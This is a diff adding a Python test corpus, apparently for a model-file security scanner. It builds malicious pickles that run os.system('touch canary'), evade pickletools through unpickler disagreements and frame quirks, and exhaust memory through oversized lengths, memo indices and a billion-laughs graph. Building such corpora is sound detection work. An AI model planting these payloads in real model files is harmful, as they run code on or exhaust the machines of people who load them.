@@ -1,0 +1,210 @@
+"""Corpus: payloads that hide where identification and CPython's two unpicklers disagree.
+
+* All-printable protocol-0 pickles that ``pickletools`` rejects (``I0x1``) but both CPython
+  unpicklers run: under ``.pkl``, ``.bin``, ``.pt`` and ``.txt`` names, loaded with
+  ``pickle.load``, ``joblib.load`` and ``torch.load(weights_only=False)``; and a payload that
+  calls its callable, then breaks off.
+* Frames as each unpickler reads them: an opcode straddling a frame's end, a frame inside a
+  frame, a string overrunning its frame (the C unpickler runs them, ``pickle.py`` refuses), a
+  frame the data cuts short (``pickle.py`` runs it, the C unpickler refuses).
+* Other disagreements: ``INT 010`` (octal for C, an error for ``pickle.py``), and INST on a last
+  line without its newline (``pickle.py`` drops a byte and calls; C refuses).
+* Resource exhaustion: lengths far past the data, a memo index far past the memo, a
+  billion-laughs object graph (no victim: the proof would be exhausting the machine).
+
+Every victim says which unpickler it uses; a torch victim says which ``weights_only`` it needs.
+"""
+
+from __future__ import annotations
+
+import struct
+from collections.abc import Callable
+from pathlib import Path
+
+from tests.corpus import Sample
+
+PICKLE_LOAD = "import pickle\nwith open(ARTIFACT, 'rb') as f:\n    pickle.load(f)\n"
+PY_UNPICKLER = "import pickle\nwith open(ARTIFACT, 'rb') as f:\n    pickle._Unpickler(f).load()\n"
+JOBLIB_LOAD = "import joblib\njoblib.load(ARTIFACT)\n"
+TORCH_LOAD = "import torch\ntorch.load(ARTIFACT, weights_only=False)\n"
+
+_EXEC = ("MLS-PKL-001", "MLS-PKL-002")
+
+
+def printable_payload(canary: Path) -> bytes:
+    """Protocol 0, all printable: ``I0x1`` (which pickletools refuses), POP, then os.system."""
+    return b"I0x1\n0cposix\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR."
+
+
+def binary_payload(canary: Path) -> bytes:
+    """SHORT_BINUNICODE x2, STACK_GLOBAL, argument, TUPLE1, REDUCE, STOP: os.system(touch)."""
+    cmd = f"touch {canary}".encode()
+    return b"\x8c\x05posix\x8c\x06system\x93\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."
+
+
+def frame(size: int) -> bytes:
+    return b"\x95" + struct.pack("<Q", size)
+
+
+def _straddling_frame(canary: Path) -> bytes:
+    # The frame ends inside SHORT_BINUNICODE's argument: C reads on, pickle.py stops.
+    return b"\x80\x04" + frame(4) + binary_payload(canary)
+
+
+def _frame_in_frame(canary: Path) -> bytes:
+    body = binary_payload(canary)
+    return b"\x80\x04" + frame(len(body) + 9) + frame(len(body)) + body
+
+
+def _string_overruns_frame(canary: Path) -> bytes:
+    body = binary_payload(canary)
+    # The first SHORT_BINUNICODE's string runs 2 bytes past the frame that opens with it.
+    return b"\x80\x04" + frame(5) + body
+
+
+def _truncated_frame(canary: Path) -> bytes:
+    body = binary_payload(canary)
+    return b"\x80\x04" + frame(len(body) + 4096) + body
+
+
+def _octal_int(canary: Path) -> bytes:
+    return b"I010\n" + printable_payload(canary)[5:]
+
+
+def _inst_on_last_line(canary: Path) -> bytes:
+    return b"(S'touch " + str(canary).encode() + b"'\nios\nsystemX"
+
+
+def _call_then_break_off(canary: Path) -> bytes:
+    return printable_payload(canary)[:-1] + b"0 and then the data stops being a pickle"
+
+
+def _huge_length(canary: Path) -> bytes:
+    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x" * 64
+
+
+def _huge_memo_index(canary: Path) -> bytes:
+    return b"\x80\x02N" + b"r" + struct.pack("<I", 0xFFFFFF00) + b"0N."
+
+
+def _billion_laughs(canary: Path) -> bytes:
+    # l0 = []; l(i+1) = [l(i)] * 10 via MARK, ten GETs and LIST; nine levels: 10**9 nodes.
+    out = bytearray(b"\x80\x02]q\x00")
+    for level in range(1, 10):
+        out += b"(" + b"h" + bytes([level - 1]) + b"2" * 9 + b"lq" + bytes([level])
+    return bytes(out + b".")
+
+
+def _sample(
+    name: str,
+    build_bytes: Callable[[Path], bytes],
+    technique: str,
+    victim: str | None,
+    *,
+    filename: str = "model.pkl",
+    rules: tuple[str, ...] = _EXEC,
+    requires: tuple[str, ...] = (),
+) -> Sample:
+    def build(directory: Path, canary: Path) -> Path:
+        directory.mkdir(parents=True, exist_ok=True)
+        path = directory / filename
+        path.write_bytes(build_bytes(canary))
+        return path
+
+    return Sample(
+        name=name,
+        build=build,
+        malicious=True,
+        rules=rules,
+        technique=technique,
+        victim=victim,
+        requires=requires,
+    )
+
+
+_LOADERS = {
+    "pickle-load": (PICKLE_LOAD, ()),
+    "joblib-load": (JOBLIB_LOAD, ("joblib",)),
+    "torch-load": (TORCH_LOAD, ("torch",)),
+}
+
+SAMPLES: list[Sample] = [
+    *(
+        _sample(
+            f"routing-printable-int-hex-{suffix.lstrip('.')}-{loader}",
+            printable_payload,
+            f"an all-printable protocol-0 pickle (INT 0x1, which pickletools rejects) named {suffix}",
+            victim,
+            filename=f"weights{suffix}",
+            requires=requires,
+        )
+        for suffix in (".pkl", ".bin", ".pt", ".txt")
+        for loader, (victim, requires) in _LOADERS.items()
+    ),
+    _sample(
+        "routing-printable-call-then-break-off",
+        _call_then_break_off,
+        "a protocol-0 payload that calls its callable and then stops being a pickle",
+        PICKLE_LOAD,
+        filename="notes.txt",
+    ),
+    _sample(
+        "frames-opcode-straddles-frame-end",
+        _straddling_frame,
+        "an opcode straddling its frame's end: the C unpickler runs it, pickle.py refuses",
+        PICKLE_LOAD,
+    ),
+    _sample(
+        "frames-frame-inside-a-frame",
+        _frame_in_frame,
+        "a frame that opens inside another: the C unpickler runs it, pickle.py refuses",
+        PICKLE_LOAD,
+    ),
+    _sample(
+        "frames-string-overruns-its-frame",
+        _string_overruns_frame,
+        "a string argument running past its frame: the C unpickler runs it, pickle.py refuses",
+        PICKLE_LOAD,
+    ),
+    _sample(
+        "frames-truncated-frame-runs-under-pickle-py",
+        _truncated_frame,
+        "a frame the data cuts short: pickle.py (joblib.load) runs it, the C unpickler refuses",
+        JOBLIB_LOAD,
+        requires=("joblib",),
+    ),
+    _sample(
+        "loaders-octal-int-runs-under-the-c-unpickler",
+        _octal_int,
+        "INT 010: strtol reads octal 8 and the C unpickler runs on; pickle.py's int(x, 0) fails",
+        PICKLE_LOAD,
+    ),
+    _sample(
+        "loaders-inst-on-a-last-line-without-newline",
+        _inst_on_last_line,
+        "INST whose name is the last line, with no newline: pickle.py drops a byte and calls",
+        JOBLIB_LOAD,
+        requires=("joblib",),
+    ),
+    _sample(
+        "exhaustion-binbytes8-length-far-past-the-data",
+        _huge_length,
+        "BINBYTES8 declaring 1 TiB in a 75-byte file: allocated before it is found missing",
+        None,
+        rules=("MLS-PKL-011",),
+    ),
+    _sample(
+        "exhaustion-memo-index-far-past-the-memo",
+        _huge_memo_index,
+        "LONG_BINPUT 4294967040: the C unpickler grows its memo array to twice that",
+        None,
+        rules=("MLS-PKL-011",),
+    ),
+    _sample(
+        "exhaustion-billion-laughs-list",
+        _billion_laughs,
+        "nine levels of lists holding the level below ten times: 10**9 nodes from 120 bytes",
+        None,
+        rules=("MLS-PKL-011",),
+    ),
+]
